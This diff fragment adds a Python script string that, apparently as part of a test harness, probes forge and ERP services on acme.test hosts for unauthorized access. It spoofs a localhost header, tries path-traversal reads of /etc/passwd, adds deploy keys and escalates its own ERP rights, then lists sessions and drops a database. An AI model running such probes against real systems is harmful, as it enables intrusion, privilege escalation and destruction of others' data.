@@ -188,6 +188,57 @@ room = ask("GET", f"/directory/room/{alias}", token=token)["room_id"]
 ask("POST", f"/rooms/{room}/invite", {"user_id": "@bob:acme.test"}, token)
 """
 
+INNER_DOORS = r"""
+import base64, json, urllib.error, urllib.request
+
+SIGNED = "Basic " + base64.b64encode(b"worker:desk-4711-pw").decode()
+
+def asked(url, method, body, kind):
+    headers = {"Authorization": SIGNED, "Content-Type": kind, "X-Forwarded-For": "127.0.0.1"}
+    request = urllib.request.Request(url, body, headers, method=method)
+    try:
+        with urllib.request.urlopen(request, timeout=30) as answer:
+            if "/login/" in answer.url:
+                return {"error": "asks to sign in"}
+            return json.loads(answer.read())
+    except urllib.error.HTTPError as error:
+        return {"error": error.code}
+    except ValueError:
+        return {"result": "a page"}
+
+def forge(path, method="POST", body=b"objid=x&useremail=alice@acme.test"):
+    return asked("https://forge.acme.test/" + path, method, body, "application/x-www-form-urlencoded")
+
+def erp(method, *parameters):
+    body = json.dumps({"id": 1, "method": method, "params": [*parameters, {}]}).encode()
+    return asked("https://erp.acme.test/acme/", "POST", body, "application/json")
+
+me = erp("model.res.user.search", [["login", "=", "worker"]], 0, 1, None)["result"]
+tried = {
+    "the forge's look-up of keys": forge("pv/ssh/lookupkey/"),
+    "the forge's question of who may": forge("pv/ssh/checkaccess/"),
+    "a comment in another's name": forge("pv/pull-request/comment/", "PUT"),
+    "a ticket's comment in another's name": forge("pv/ticket/comment/", "PUT"),
+    "a repository's settings": forge("site/settings"),
+    "a repository's keys": forge("site/adddeploykey"),
+    "a pull request from a file": forge("site/diff/remote", body=b"git_repo=file:///etc"),
+    "the repository's own files": forge("site.git/config", "GET", None),
+    "a file above the repository": forge("site/raw/main/f/..%2f..%2fetc/passwd", "GET", None),
+    "a file above what is public": forge("static/..%2f..%2fetc/passwd", "GET", None),
+    "more rights in the ERP": erp("model.res.user.write", me, {"groups": [["add", [1]]]}),
+    "a user of the ERP": erp("model.res.user.create", [{"login": "mine"}]),
+    "a timed call": erp("model.ir.cron.create", [{"interval_number": 1}]),
+    "a report that runs": erp("model.ir.action.report.write", [1], {"name": "x"}),
+    "rights on a model": erp("model.ir.model.access.create", [{"model": 1}]),
+    "a rule": erp("model.ir.rule.write", [1], {"domain": "[]"}),
+    "a mail by the ERP": erp("model.ir.email.create", []),
+    "others' sessions": erp("model.ir.session.search", []),
+    "the ERP's databases": erp("common.db.list"),
+    "to drop them": erp("common.db.drop", "acme", "admin"),
+}
+print(json.dumps({name: told for name, told in tried.items() if not told.get("error")}))
+"""
+
 TRIES = r"""
 import json, os, socket, subprocess, urllib.request
 
